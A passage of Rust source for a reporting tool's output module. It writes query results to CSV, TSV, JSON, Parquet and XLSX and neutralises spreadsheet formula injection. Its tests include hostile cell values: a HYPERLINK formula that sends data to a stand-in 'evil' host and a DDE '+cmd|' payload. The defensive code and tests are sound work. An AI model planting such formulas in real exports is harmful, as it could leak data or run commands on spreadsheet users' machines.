//! One way to print results, for every command that prints rows: `check`, `sql` (its `-c`, `-f`
//! and the interactive shell) and the reports' exports. `PrintFormat` serves both the `--format`
//! flag and the shell's `\format`, as in datafusion-cli.
//!
//! Text formats show instants as `2026-10-15 23:59:59` (the contract's form) and nulls as empty
//! (table, CSV) or `null` (JSON).
//!
//! The reports' attachments and the register are text tables ([`TextTable`], [`text_xlsx`],
//! [`text_csv`]), written here too; a table too large to hold (the monthly report's red findings)
//! is written row by row as its query streams ([`TextTableWriter`]).
//!
//! Spreadsheet outputs (CSV, TSV, XLSX — of batches and of text tables) pass every
//! text cell through [`neutralise_cell`] or [`write_text_cell`]: a denial reason such as
//! `=HYPERLINK(…)` read from an export must not become a formula in Excel or WPS (OWASP "CSV
//! injection"). The table, JSON, JSONL and Parquet outputs are not spreadsheets and are written as
//! the data is.

use std::borrow::Cow;
use std::io::Write;
use std::path::Path;
use std::sync::Arc;

use datafusion::arrow::array::{Array, ArrayRef, RecordBatch};
use datafusion::arrow::compute::{CastOptions, cast_with_options};
use datafusion::arrow::datatypes::{DataType, Field, Schema, SchemaRef};
use datafusion::arrow::error::ArrowError;
use datafusion::arrow::util::display::FormatOptions;

#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum, serde::Serialize, serde::Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum PrintFormat {
    Table,
    Csv,
    Tsv,
    Json,
    Jsonl,
    Parquet,
    Xlsx,
}

impl PrintFormat {
    pub fn parse(s: &str) -> Option<PrintFormat> {
        <PrintFormat as clap::ValueEnum>::from_str(s.trim(), true).ok()
    }

    /// Binary formats go to a file, never to a terminal.
    pub fn is_binary(self) -> bool {
        matches!(self, PrintFormat::Parquet | PrintFormat::Xlsx)
    }

    pub fn from_extension(path: &Path) -> Option<PrintFormat> {
        PrintFormat::parse(path.extension()?.to_str()?)
    }
}

#[derive(Debug, thiserror::Error)]
pub enum OutputError {
    #[error("{0}")]
    Arrow(#[from] ArrowError),
    #[error("{0}")]
    Io(#[from] std::io::Error),
    #[error("{0}")]
    Parquet(#[from] datafusion::parquet::errors::ParquetError),
    #[error("xlsx: {0}")]
    Xlsx(#[from] rust_xlsxwriter::XlsxError),
    #[error("{0} output goes to a file: add -o FILE")]
    NeedsFile(&'static str),
}

const TS_FORMAT: &str = "%Y-%m-%d %H:%M:%S";

fn format_options() -> FormatOptions<'static> {
    FormatOptions::default()
        .with_timestamp_format(Some(TS_FORMAT))
        .with_datetime_format(Some(TS_FORMAT))
        .with_date_format(Some("%Y-%m-%d"))
        .with_null("")
}

/// Every column as text the way a person reads it (instants without the `T`, views as plain strings).
pub fn textual(batch: &RecordBatch) -> Result<RecordBatch, ArrowError> {
    let opts = CastOptions { safe: false, format_options: format_options() };
    let mut fields = Vec::new();
    let mut cols: Vec<ArrayRef> = Vec::new();
    for (f, c) in batch.schema().fields().iter().zip(batch.columns()) {
        let to_text = matches!(
            f.data_type(),
            DataType::Timestamp(_, _) | DataType::Date32 | DataType::Date64 | DataType::Utf8View | DataType::LargeUtf8 | DataType::Dictionary(_, _)
        );
        if to_text {
            cols.push(cast_with_options(c, &DataType::Utf8, &opts)?);
            fields.push(Field::new(f.name(), DataType::Utf8, true));
        } else {
            cols.push(Arc::clone(c));
            fields.push(f.as_ref().clone());
        }
    }
    RecordBatch::try_new(Arc::new(Schema::new(fields)), cols)
}

/// What makes Excel or WPS take a cell for a formula: `= + - @` first (after any leading blanks);
/// their full-width forms too (WPS's Chinese input turns them into formulas as typed; whether it
/// does on opening a file is unsure, so they count).
const FORMULA_STARTS: &[char] = &['=', '+', '-', '@', '＝', '＋', '－', '＠'];

/// Invisible characters skipped like blanks before a formula character.
const INVISIBLE: &[char] = &['\u{feff}', '\u{200b}', '\u{200c}', '\u{200d}', '\u{2060}'];

/// Whether a text cell could be read as a formula: it starts with a tab or CR (OWASP), or with a
/// formula character after any blanks — unless the whole cell is a plain decimal such as `-12.5`
/// or `+3e5`, which is data (`+86 138 0013 8000` is not one).
pub fn is_formula_like(s: &str) -> bool {
    if s.starts_with(['\t', '\r']) {
        return true;
    }
    let rest = s.trim_start_matches(|c: char| c.is_whitespace() || INVISIBLE.contains(&c));
    rest.starts_with(FORMULA_STARTS) && !is_plain_number(s.trim())
}

/// An optional sign, digits with at most one point, an optional exponent; ASCII, nothing else.
fn is_plain_number(s: &str) -> bool {
    let b = s.as_bytes();
    let mut i = usize::from(matches!(b.first(), Some(b'+' | b'-')));
    let int = digits(b, &mut i);
    let mut frac = 0;
    if b.get(i) == Some(&b'.') {
        i += 1;
        frac = digits(b, &mut i);
    }
    if int + frac == 0 {
        return false;
    }
    if matches!(b.get(i), Some(b'e' | b'E')) {
        i += 1;
        i += usize::from(matches!(b.get(i), Some(b'+' | b'-')));
        if digits(b, &mut i) == 0 {
            return false;
        }
    }
    i == b.len()
}

/// Skips the ASCII digits at `i`, saying how many there were.
fn digits(b: &[u8], i: &mut usize) -> usize {
    let start = *i;
    while b.get(*i).is_some_and(u8::is_ascii_digit) {
        *i += 1;
    }
    *i - start
}

/// A text cell as a CSV or TSV holds it: with `'` in front when it could be read as a formula
/// (OWASP's advice; the spreadsheet then shows it as text), otherwise as it is. The one rule
/// every CSV/TSV writer of the project applies.
pub fn neutralise_cell(s: &str) -> Cow<'_, str> {
    if is_formula_like(s) { Cow::Owned(format!("'{s}")) } else { Cow::Borrowed(s) }
}

/// Writes a text cell to an XLSX sheet; the one way every XLSX writer of the project writes text.
/// A string cell is never evaluated, but one that looks like a formula becomes one when a person
/// edits it, so such a cell gets the quote-prefix format (Excel's own `'`): it shows as written,
/// without an apostrophe, and stays text when edited.
pub fn write_text_cell(ws: &mut rust_xlsxwriter::Worksheet, row: u32, col: u16, s: &str, format: Option<&rust_xlsxwriter::Format>) -> Result<(), rust_xlsxwriter::XlsxError> {
    match format {
        _ if is_formula_like(s) => ws.write_string_with_format(row, col, s, &format.cloned().unwrap_or_default().set_quote_prefix()),
        Some(f) => ws.write_string_with_format(row, col, s, f),
        None => ws.write_string(row, col, s),
    }?;
    Ok(())
}

/// A batch as a CSV/TSV writes it: column names and text cells through [`neutralise_cell`];
/// numbers, booleans and binary as they are (numbers stay numbers).
fn neutralised(batch: &RecordBatch) -> Result<RecordBatch, ArrowError> {
    use datafusion::arrow::array::{AsArray, StringArray};
    let opts = CastOptions { safe: false, format_options: format_options() };
    let mut fields = Vec::new();
    let mut cols: Vec<ArrayRef> = Vec::new();
    for (f, c) in batch.schema().fields().iter().zip(batch.columns()) {
        let dt = f.data_type();
        let as_is = dt.is_numeric()
            || matches!(dt, DataType::Boolean | DataType::Null | DataType::Binary | DataType::LargeBinary | DataType::BinaryView | DataType::FixedSizeBinary(_))
            || !datafusion::arrow::compute::can_cast_types(dt, &DataType::Utf8);
        let col = if as_is {
            Arc::clone(c)
        } else {
            let text = if dt == &DataType::Utf8 { Arc::clone(c) } else { cast_with_options(c, &DataType::Utf8, &opts)? };
            let s = text.as_string::<i32>();
            if s.iter().flatten().any(is_formula_like) {
                Arc::new(s.iter().map(|v| v.map(neutralise_cell)).collect::<StringArray>())
            } else {
                text
            }
        };
        fields.push(f.as_ref().clone().with_name(neutralise_cell(f.name())).with_data_type(col.data_type().clone()));
        cols.push(col);
    }
    RecordBatch::try_new(Arc::new(Schema::new(fields)), cols)
}

/// The rows as JSON of format `F` (an array, or one object a line), nulls written out.
fn write_json<F: datafusion::arrow::json::writer::JsonFormat>(out: &mut dyn Write, batches: &[RecordBatch]) -> Result<(), OutputError> {
    let mut w = datafusion::arrow::json::WriterBuilder::new().with_explicit_nulls(true).build::<_, F>(out);
    for b in batches {
        w.write(b)?;
    }
    w.finish()?;
    Ok(())
}

/// Prints batches in a text format.
pub fn print_batches(out: &mut dyn Write, schema: &SchemaRef, batches: &[RecordBatch], format: PrintFormat) -> Result<(), OutputError> {
    let text: Vec<RecordBatch> = batches.iter().map(textual).collect::<Result<_, _>>()?;
    let text_schema = match text.first() {
        Some(b) => b.schema(),
        None => textual(&RecordBatch::new_empty(schema.clone()))?.schema(),
    };
    match format {
        PrintFormat::Table => {
            if text.iter().all(|b| b.num_rows() == 0) {
                let names: Vec<&str> = schema.fields().iter().map(|f| f.name().as_str()).collect();
                writeln!(out, "(0 rows; columns: {})", names.join(", "))?;
            } else {
                let t = datafusion::arrow::util::pretty::pretty_format_batches_with_options(&text, &format_options())?;
                writeln!(out, "{t}")?;
            }
        }
        PrintFormat::Csv | PrintFormat::Tsv => {
            let delim = if format == PrintFormat::Csv { b',' } else { b'\t' };
            let mut w = datafusion::arrow::csv::WriterBuilder::new().with_header(true).with_delimiter(delim).build(&mut *out);
            if text.is_empty() {
                w.write(&neutralised(&RecordBatch::new_empty(text_schema))?)?;
            }
            for b in &text {
                w.write(&neutralised(b)?)?;
            }
        }
        PrintFormat::Jsonl => write_json::<datafusion::arrow::json::writer::LineDelimited>(&mut *out, &text)?,
        PrintFormat::Json => {
            write_json::<datafusion::arrow::json::writer::JsonArray>(&mut *out, &text)?;
            writeln!(out)?;
        }
        PrintFormat::Parquet => return Err(OutputError::NeedsFile("parquet")),
        PrintFormat::Xlsx => return Err(OutputError::NeedsFile("xlsx")),
    }
    Ok(())
}

/// Writes batches to a file in any format (binary ones included).
pub fn write_file(path: &Path, schema: &SchemaRef, batches: &[RecordBatch], format: PrintFormat) -> Result<(), OutputError> {
    match format {
        PrintFormat::Parquet => {
            let f = std::fs::File::create(path)?;
            let mut w = datafusion::parquet::arrow::ArrowWriter::try_new(f, schema.clone(), Some(crate::store::writer_properties()))?;
            for b in batches {
                w.write(b)?;
            }
            w.close()?;
        }
        PrintFormat::Xlsx => write_xlsx(path, schema, batches, None)?,
        _ => {
            let mut f = std::io::BufWriter::new(std::fs::File::create(path)?);
            print_batches(&mut f, schema, batches, format)?;
            f.flush()?;
        }
    }
    Ok(())
}

/// Writes an XLSX sheet: bold frozen header row, widths fitted to the content (CJK counted
/// double), numbers as numbers, instants as Excel date cells. `headers` replaces column names.
pub fn write_xlsx(path: &Path, schema: &SchemaRef, batches: &[RecordBatch], headers: Option<&[String]>) -> Result<(), OutputError> {
    let mut wb = rust_xlsxwriter::Workbook::new();
    add_sheets(&mut wb, None, schema, batches, headers)?;
    wb.save(path)?;
    Ok(())
}

/// The rows a worksheet holds under its header row (Excel and WPS stop at 1,048,576 rows).
pub const SHEET_ROWS: usize = 1_048_575;

/// Adds the rows as one sheet, or, when there are more than a sheet holds, as several sheets
/// (`name`, `name (2)`, …; Sheet1, Sheet2, … without a name), each with the header row.
pub fn add_sheets(wb: &mut rust_xlsxwriter::Workbook, name: Option<&str>, schema: &SchemaRef, batches: &[RecordBatch], headers: Option<&[String]>) -> Result<usize, OutputError> {
    add_sheets_of(wb, name, schema, batches, headers, SHEET_ROWS)
}

fn add_sheets_of(wb: &mut rust_xlsxwriter::Workbook, name: Option<&str>, schema: &SchemaRef, batches: &[RecordBatch], headers: Option<&[String]>, per_sheet: usize) -> Result<usize, OutputError> {
    let chunks = crate::store::slice_runs(batches, per_sheet);
    for (k, chunk) in chunks.iter().enumerate() {
        add_sheet_rows(continued_sheet(wb, name, k)?, schema, chunk, headers)?;
    }
    Ok(chunks.len())
}

/// The `k`th sheet of a table's rows: `name`, then `name (2)`, … (Sheet1, Sheet2, … without a name).
fn continued_sheet<'w>(wb: &'w mut rust_xlsxwriter::Workbook, name: Option<&str>, k: usize) -> Result<&'w mut rust_xlsxwriter::Worksheet, rust_xlsxwriter::XlsxError> {
    let sheet = wb.add_worksheet();
    match (name, k) {
        (Some(n), 0) => {
            sheet.set_name(n)?;
        }
        (Some(n), k) => {
            sheet.set_name(format!("{n} ({})", k + 1))?;
        }
        (None, _) => {}
    }
    Ok(sheet)
}

/// A table of text cells for people, as the reports attach and file it: a sheet name (XLSX),
/// the headers and the rows.
pub struct TextTable<'a> {
    pub sheet: &'a str,
    pub headers: &'a [String],
    pub rows: &'a [Vec<String>],
}

/// A workbook of text tables, one sheet each (continued on further sheets past [`SHEET_ROWS`]),
/// as bytes.
pub fn text_xlsx(tables: &[TextTable<'_>]) -> Result<Vec<u8>, OutputError> {
    let mut wb = rust_xlsxwriter::Workbook::new();
    for t in tables {
        let chunks: Vec<&[Vec<String>]> = if t.rows.is_empty() { vec![t.rows] } else { t.rows.chunks(SHEET_ROWS).collect() };
        for (k, chunk) in chunks.into_iter().enumerate() {
            write_text_sheet(continued_sheet(&mut wb, Some(t.sheet), k)?, t.headers, chunk)?;
        }
    }
    Ok(wb.save_to_buffer()?)
}

/// Long text wraps inside a column of at most this many characters instead of stretching the sheet.
const WIDE: usize = 40;

/// The formats of a text sheet: the header's, and wrapped text's.
struct TextFormats {
    bold: rust_xlsxwriter::Format,
    wrap: rust_xlsxwriter::Format,
}

impl TextFormats {
    fn new() -> TextFormats {
        TextFormats {
            bold: rust_xlsxwriter::Format::new().set_bold().set_background_color(rust_xlsxwriter::Color::RGB(0xDDEBF7)).set_border(rust_xlsxwriter::FormatBorder::Thin),
            wrap: rust_xlsxwriter::Format::new().set_text_wrap().set_align(rust_xlsxwriter::FormatAlign::Top),
        }
    }
}

/// A sheet of text cells: a bold frozen header, fitted widths with long text wrapped, printable
/// as filed (A4 landscape, one page wide, the header on every page), filters on.
fn write_text_sheet(ws: &mut rust_xlsxwriter::Worksheet, headers: &[String], rows: &[Vec<String>]) -> Result<(), rust_xlsxwriter::XlsxError> {
    let f = TextFormats::new();
    let mut widths = text_sheet_header(ws, headers, &f)?;
    for (i, r) in rows.iter().enumerate() {
        text_sheet_row(ws, i as u32 + 1, r, &mut widths, &f)?;
    }
    finish_text_sheet(ws, headers.len(), rows.len(), &widths)
}

/// Writes the header row of a text sheet; the column widths so far.
fn text_sheet_header(ws: &mut rust_xlsxwriter::Worksheet, headers: &[String], f: &TextFormats) -> Result<Vec<usize>, rust_xlsxwriter::XlsxError> {
    for (j, h) in headers.iter().enumerate() {
        write_text_cell(ws, 0, j as u16, h, Some(&f.bold))?;
    }
    Ok(headers.iter().map(|h| text_width(h)).collect())
}

/// Writes one row of a text sheet at `row`, widening `widths` to its cells (at most [`WIDE`]).
fn text_sheet_row(ws: &mut rust_xlsxwriter::Worksheet, row: u32, cells: &[String], widths: &mut Vec<usize>, f: &TextFormats) -> Result<(), rust_xlsxwriter::XlsxError> {
    for (j, v) in cells.iter().enumerate() {
        let w = text_width(v);
        if w > WIDE {
            write_text_cell(ws, row, j as u16, v, Some(&f.wrap))?;
        } else if !v.is_empty() {
            write_text_cell(ws, row, j as u16, v, None)?;
        }
        if j >= widths.len() {
            widths.resize(j + 1, 0);
        }
        widths[j] = widths[j].max(w.min(WIDE));
    }
    Ok(())
}

/// The widths, frozen header, page set-up and filter of a text sheet of `rows` rows.
fn finish_text_sheet(ws: &mut rust_xlsxwriter::Worksheet, columns: usize, rows: usize, widths: &[usize]) -> Result<(), rust_xlsxwriter::XlsxError> {
    for (j, w) in widths.iter().enumerate() {
        ws.set_column_width(j as u16, *w as f64 + 2.0)?;
    }
    ws.set_freeze_panes(1, 0)?;
    ws.set_landscape();
    ws.set_paper_size(9);
    ws.set_print_fit_to_pages(1, 0);
    ws.set_repeat_rows(0, 0)?;
    if columns > 0 {
        ws.autofilter(0, 0, rows as u32, columns as u16 - 1)?;
    }
    Ok(())
}

/// A text table written row by row as the rows arrive, to an XLSX (the sheets in constant-memory
/// mode: each row goes to a temporary file as it is written, so memory stays flat however many
/// rows) and a CSV with a UTF-8 BOM, laid out as [`text_xlsx`] and [`text_csv`] lay them out:
/// the sheet continues on `name (2)`, … past [`SHEET_ROWS`] rows. [`TextTableWriter::finish`]
/// saves the XLSX.
pub struct TextTableWriter {
    wb: rust_xlsxwriter::Workbook,
    xlsx: std::path::PathBuf,
    csv: csv::Writer<std::io::BufWriter<std::fs::File>>,
    sheet: String,
    headers: Vec<String>,
    formats: TextFormats,
    per_sheet: usize,
    /// Sheets opened so far, and the rows written to the last of them.
    sheets: usize,
    rows_in_sheet: usize,
    widths: Vec<usize>,
    rows: u64,
}

impl TextTableWriter {
    /// Creates both files; the workbook's temporary files go beside the XLSX.
    pub fn create(xlsx: &Path, csv: &Path, sheet: &str, headers: &[String]) -> Result<TextTableWriter, OutputError> {
        Self::create_with(xlsx, csv, sheet, headers, SHEET_ROWS)
    }

    fn create_with(xlsx: &Path, csv_path: &Path, sheet: &str, headers: &[String], per_sheet: usize) -> Result<TextTableWriter, OutputError> {
        let mut file = std::io::BufWriter::new(std::fs::File::create(csv_path)?);
        file.write_all("\u{feff}".as_bytes())?;
        let mut csv = csv::Writer::from_writer(file);
        csv.write_record(headers.iter().map(|c| neutralise_cell(c).into_owned())).map_err(std::io::Error::from)?;
        let mut wb = rust_xlsxwriter::Workbook::new();
        if let Some(dir) = xlsx.parent().filter(|d| !d.as_os_str().is_empty()) {
            wb.set_tempdir(dir)?;
        }
        let mut w = TextTableWriter {
            wb,
            xlsx: xlsx.to_path_buf(),
            csv,
            sheet: sheet.to_string(),
            headers: headers.to_vec(),
            formats: TextFormats::new(),
            per_sheet: per_sheet.max(1),
            sheets: 0,
            rows_in_sheet: 0,
            widths: Vec::new(),
            rows: 0,
        };
        w.next_sheet()?;
        Ok(w)
    }

    /// Finishes the current sheet (if any) and opens the next one with its header row.
    fn next_sheet(&mut self) -> Result<(), OutputError> {
        self.finish_sheet()?;
        let name = match self.sheets {
            0 => self.sheet.clone(),
            k => format!("{} ({})", self.sheet, k + 1),
        };
        let ws = self.wb.add_worksheet_with_constant_memory()?;
        ws.set_name(name)?;
        self.widths = text_sheet_header(ws, &self.headers, &self.formats)?;
        self.sheets += 1;
        self.rows_in_sheet = 0;
        Ok(())
    }

    fn finish_sheet(&mut self) -> Result<(), OutputError> {
        if self.sheets == 0 {
            return Ok(());
        }
        let ws = self.wb.worksheet_from_index(self.sheets - 1)?;
        finish_text_sheet(ws, self.headers.len(), self.rows_in_sheet, &self.widths)?;
        Ok(())
    }

    /// Writes one row of text cells to both files.
    pub fn write_row(&mut self, cells: &[String]) -> Result<(), OutputError> {
        let text: Vec<Cow<'_, str>> = cells.iter().map(|c| neutralise_cell(c)).collect();
        self.csv.write_record(text.iter().map(|c| c.as_bytes())).map_err(std::io::Error::from)?;
        if self.rows_in_sheet >= self.per_sheet {
            self.next_sheet()?;
        }
        self.rows_in_sheet += 1;
        let row = self.rows_in_sheet as u32;
        let ws = self.wb.worksheet_from_index(self.sheets - 1)?;
        text_sheet_row(ws, row, cells, &mut self.widths, &self.formats)?;
        self.rows += 1;
        Ok(())
    }

    /// The rows written so far.
    pub fn rows(&self) -> u64 {
        self.rows
    }

    /// Saves the XLSX and flushes the CSV; the number of sheets.
    pub fn finish(mut self) -> Result<usize, OutputError> {
        self.finish_sheet()?;
        self.wb.save(&self.xlsx)?;
        self.csv.flush()?;
        Ok(self.sheets)
    }
}

/// A text table as CSV with a UTF-8 BOM, so Excel and WPS open the Chinese correctly; every
/// cell through [`neutralise_cell`].
pub fn text_csv(headers: &[String], rows: &[Vec<String>]) -> Result<Vec<u8>, OutputError> {
    let mut out = "\u{feff}".as_bytes().to_vec();
    {
        let mut w = csv::Writer::from_writer(&mut out);
        for r in std::iter::once(headers).chain(rows.iter().map(Vec::as_slice)) {
            w.write_record(r.iter().map(|c| neutralise_cell(c)).collect::<Vec<_>>().iter().map(|c| c.as_bytes())).map_err(std::io::Error::from)?;
        }
        w.flush()?;
    }
    Ok(out)
}

/// Display width of text in a spreadsheet column (CJK characters are two wide).
pub fn text_width(s: &str) -> usize {
    s.chars().map(|c| if (c as u32) >= 0x2E80 { 2 } else { 1 }).sum()
}

pub fn add_sheet_rows(sheet: &mut rust_xlsxwriter::Worksheet, schema: &SchemaRef, batches: &[RecordBatch], headers: Option<&[String]>) -> Result<(), OutputError> {
    use datafusion::arrow::array::AsArray;
    use datafusion::arrow::datatypes::{Float64Type, Int64Type};
    let bold = rust_xlsxwriter::Format::new().set_bold().set_background_color(rust_xlsxwriter::Color::RGB(0xDDEBF7));
    let date_fmt = rust_xlsxwriter::Format::new().set_num_format("yyyy-mm-dd hh:mm:ss");
    let mut widths: Vec<usize> = Vec::new();
    for (j, f) in schema.fields().iter().enumerate() {
        let h = headers.and_then(|h| h.get(j)).cloned().unwrap_or_else(|| f.name().clone());
        widths.push(text_width(&h));
        write_text_cell(sheet, 0, j as u16, &h, Some(&bold))?;
    }
    sheet.set_freeze_panes(1, 0)?;
    let mut row = 1u32;
    for b in batches {
        let text = textual(b)?;
        for i in 0..b.num_rows() {
            for j in 0..b.num_columns() {
                let c = b.column(j);
                if c.is_null(i) {
                    continue;
                }
                let col = j as u16;
                match c.data_type() {
                    DataType::Int64 => {
                        sheet.write_number(row, col, c.as_primitive::<Int64Type>().value(i) as f64)?;
                        widths[j] = widths[j].max(8);
                    }
                    DataType::Float64 => {
                        sheet.write_number(row, col, c.as_primitive::<Float64Type>().value(i))?;
                        widths[j] = widths[j].max(8);
                    }
                    DataType::Boolean => {
                        let v = c.as_boolean().value(i);
                        write_text_cell(sheet, row, col, if v { "是" } else { "否" }, None)?;
                    }
                    DataType::Timestamp(_, _) => {
                        let s = text.column(j).as_string::<i32>().value(i).to_string();
                        match chrono::NaiveDateTime::parse_from_str(&s, TS_FORMAT) {
                            Ok(t) => {
                                sheet.write_datetime_with_format(row, col, t, &date_fmt)?;
                            }
                            Err(_) => {
                                write_text_cell(sheet, row, col, &s, None)?;
                            }
                        }
                        widths[j] = widths[j].max(19);
                    }
                    _ => {
                        let tc = text.column(j);
                        let s = match tc.data_type() {
                            DataType::Utf8 => tc.as_string::<i32>().value(i).to_string(),
                            _ => datafusion::arrow::util::display::array_value_to_string(tc, i)?,
                        };
                        widths[j] = widths[j].max(text_width(&s).min(60));
                        write_text_cell(sheet, row, col, &s, None)?;
                    }
                }
            }
            row += 1;
        }
    }
    for (j, w) in widths.iter().enumerate() {
        sheet.set_column_width(j as u16, (*w as f64 + 2.0).min(62.0))?;
    }
    Ok(())
}

/// Writes a single column array count helper for summaries.
/// Every cell of `batches` as text, row by row (nulls empty), as [`textual`] shows them.
pub fn text_rows(batches: &[RecordBatch]) -> Result<Vec<Vec<String>>, OutputError> {
    let mut out = Vec::new();
    for b in batches {
        let b = textual(b)?;
        for i in 0..b.num_rows() {
            let row = b.columns().iter().map(|c| if c.is_null(i) { Ok(String::new()) } else { datafusion::arrow::util::display::array_value_to_string(c, i) }).collect::<Result<Vec<String>, ArrowError>>()?;
            out.push(row);
        }
    }
    Ok(out)
}

pub fn rows(batches: &[RecordBatch]) -> usize {
    batches.iter().map(|b| b.num_rows()).sum()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn rows_beyond_a_sheet_continue_on_further_sheets_with_the_header() {
        let (schema, batch) = sample();
        let n = batch.num_rows();
        let batches = vec![batch.clone(), batch.clone(), batch];
        let mut wb = rust_xlsxwriter::Workbook::new();
        let sheets = add_sheets_of(&mut wb, Some("结果"), &schema, &batches, None, 2 * n - 1).unwrap();
        assert_eq!(sheets, 2);
        let dir = tempfile::tempdir().unwrap();
        let p = dir.path().join("x.xlsx");
        wb.save(&p).unwrap();
        use calamine::Reader;
        let mut book = calamine::open_workbook_auto(&p).unwrap();
        assert_eq!(book.sheet_names(), vec!["结果".to_string(), "结果 (2)".to_string()]);
        let first = book.worksheet_range("结果").unwrap();
        let second = book.worksheet_range("结果 (2)").unwrap();
        assert_eq!(first.height(), 2 * n, "header + {} rows", 2 * n - 1);
        assert_eq!(second.height(), 1 + n + 1, "header + the rest");
        assert_eq!(second.get((0, 0)).unwrap().to_string(), "rule");
        assert_eq!(crate::store::slice_runs(&[], 5).len(), 1, "an empty result is one empty sheet");
    }
    use datafusion::arrow::array::{StringArray, TimestampMicrosecondArray};
    use datafusion::arrow::datatypes::TimeUnit;

    fn sample() -> (SchemaRef, RecordBatch) {
        let schema = Arc::new(Schema::new(vec![
            Field::new("rule", DataType::Utf8, false),
            Field::new("due_at", DataType::Timestamp(TimeUnit::Microsecond, None), true),
        ]));
        let t = chrono::NaiveDate::from_ymd_opt(2026, 10, 15).unwrap().and_hms_opt(23, 59, 59).unwrap();
        let b = RecordBatch::try_new(
            schema.clone(),
            vec![
                Arc::new(StringArray::from(vec!["a", "b"])),
                Arc::new(TimestampMicrosecondArray::from(vec![Some(t.and_utc().timestamp_micros()), None])),
            ],
        )
        .unwrap();
        (schema, b)
    }

    #[test]
    fn cells_that_could_be_formulas_are_neutralised_and_nothing_else() {
        let table: &[(&str, &str)] = &[
            ("=HYPERLINK(\"http://evil/?\"&B2,\"详情\")", "'=HYPERLINK(\"http://evil/?\"&B2,\"详情\")"),
            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
            ("-2+3", "'-2+3"),
            ("@SUM(1+1)", "'@SUM(1+1)"),
            ("\t=1", "'\t=1"),
            ("\tplain", "'\tplain"),
            ("\r\nx", "'\r\nx"),
            (" =1+1", "' =1+1"),
            ("\u{3000}@x", "'\u{3000}@x"),
            ("\u{feff}=1", "'\u{feff}=1"),
            ("＝1+1", "'＝1+1"),
            ("＋86", "'＋86"),
            ("－1", "'－1"),
            ("＠SUM(A1)", "'＠SUM(A1)"),
            ("+86 138 0013 8000", "'+86 138 0013 8000"),
            ("-", "'-"),
            ("-1e", "'-1e"),
            ("-.", "'-."),
            ("-inf", "'-inf"),
            ("-12.5", "-12.5"),
            ("+86", "+86"),
            ("1e5", "1e5"),
            ("-1.2E-3", "-1.2E-3"),
            ("-.5", "-.5"),
            (" -12.5 ", " -12.5 "),
            ("", ""),
            ("   ", "   "),
            ("a=b", "a=b"),
            ("材料不符=退回", "材料不符=退回"),
            ("王局", "王局"),
            ("'=already", "'=already"),
            ("2026-10-15 23:59:59", "2026-10-15 23:59:59"),
        ];
        for (input, want) in table {
            assert_eq!(neutralise_cell(input), *want, "{input:?}");
            assert_eq!(is_formula_like(input), input != want, "{input:?}");
        }
        assert!(matches!(neutralise_cell("王局"), Cow::Borrowed(_)), "safe cells are not copied");
    }

    #[test]
    fn csv_and_tsv_neutralise_text_cells_and_names_but_keep_numbers() {
        use datafusion::arrow::array::{Float64Array, Int64Array, StringViewArray};
        let schema = Arc::new(Schema::new(vec![
            Field::new("reason", DataType::Utf8, true),
            Field::new("approver", DataType::Utf8View, true),
            Field::new("=n", DataType::Int64, true),
            Field::new("x", DataType::Float64, true),
        ]));
        let b = RecordBatch::try_new(
            schema.clone(),
            vec![
                Arc::new(StringArray::from(vec![Some("=1+1"), Some("-12.5"), None])),
                Arc::new(StringViewArray::from(vec![Some("@SUM(1+1)"), Some("王局"), Some("\tx")])),
                Arc::new(Int64Array::from(vec![Some(-3), None, Some(4)])),
                Arc::new(Float64Array::from(vec![Some(-1.5), Some(2.0), None])),
            ],
        )
        .unwrap();
        let mut out = Vec::new();
        print_batches(&mut out, &schema, std::slice::from_ref(&b), PrintFormat::Csv).unwrap();
        assert_eq!(String::from_utf8(out).unwrap(), "reason,approver,'=n,x\n'=1+1,'@SUM(1+1),-3,-1.5\n-12.5,王局,,2.0\n,'\tx,4,\n");
        let mut out = Vec::new();
        print_batches(&mut out, &schema, std::slice::from_ref(&b), PrintFormat::Tsv).unwrap();
        assert!(String::from_utf8(out).unwrap().starts_with("reason\tapprover\t'=n\tx\n'=1+1\t'@SUM(1+1)\t-3\t-1.5\n"));
        // JSON is not a spreadsheet: written as the data is.
        let mut out = Vec::new();
        print_batches(&mut out, &schema, &[b], PrintFormat::Jsonl).unwrap();
        assert!(String::from_utf8(out).unwrap().starts_with("{\"reason\":\"=1+1\",\"approver\":\"@SUM(1+1)\",\"=n\":-3"));
    }

    #[test]
    fn xlsx_text_that_could_be_a_formula_is_a_quote_prefixed_string_never_a_formula() {
        let schema = Arc::new(Schema::new(vec![Field::new("reason", DataType::Utf8, true), Field::new("n", DataType::Int64, true)]));
        let b = RecordBatch::try_new(
            schema.clone(),
            vec![
                Arc::new(StringArray::from(vec![Some("=HYPERLINK(\"http://evil/\",\"详情\")"), Some("王局")])),
                Arc::new(datafusion::arrow::array::Int64Array::from(vec![Some(-3), Some(5)])),
            ],
        )
        .unwrap();
        let dir = tempfile::tempdir().unwrap();
        let p = dir.path().join("x.xlsx");
        write_file(&p, &schema, &[b], PrintFormat::Xlsx).unwrap();
        use calamine::Reader;
        let mut book = calamine::open_workbook_auto(&p).unwrap();
        let r = book.worksheet_range("Sheet1").unwrap();
        assert_eq!(r.get((1, 0)), Some(&calamine::Data::String("=HYPERLINK(\"http://evil/\",\"详情\")".into())), "shown as written");
        assert_eq!(r.get((1, 1)), Some(&calamine::Data::Float(-3.0)), "numbers stay numbers");
        assert!(book.worksheet_formula("Sheet1").unwrap().used_cells().next().is_none());
        let mut archive = zip::ZipArchive::new(std::fs::File::open(&p).unwrap()).unwrap();
        let mut styles = String::new();
        std::io::Read::read_to_string(&mut archive.by_name("xl/styles.xml").unwrap(), &mut styles).unwrap();
        assert_eq!(styles.matches("quotePrefix=\"1\"").count(), 1, "{styles}");
    }

    #[test]
    fn jsonl_has_explicit_nulls_and_contract_timestamps() {
        let (schema, b) = sample();
        let mut out = Vec::new();
        print_batches(&mut out, &schema, &[b], PrintFormat::Jsonl).unwrap();
        let s = String::from_utf8(out).unwrap();
        assert_eq!(s, "{\"rule\":\"a\",\"due_at\":\"2026-10-15 23:59:59\"}\n{\"rule\":\"b\",\"due_at\":null}\n");
    }

    #[test]
    fn a_streamed_text_table_continues_past_a_sheet_and_matches_the_csv() {
        let dir = tempfile::tempdir().unwrap();
        let (x, c) = (dir.path().join("t.xlsx"), dir.path().join("t.csv"));
        let headers = vec!["规则".to_string(), "说明".to_string()];
        let mut w = TextTableWriter::create_with(&x, &c, "明细", &headers, 3).unwrap();
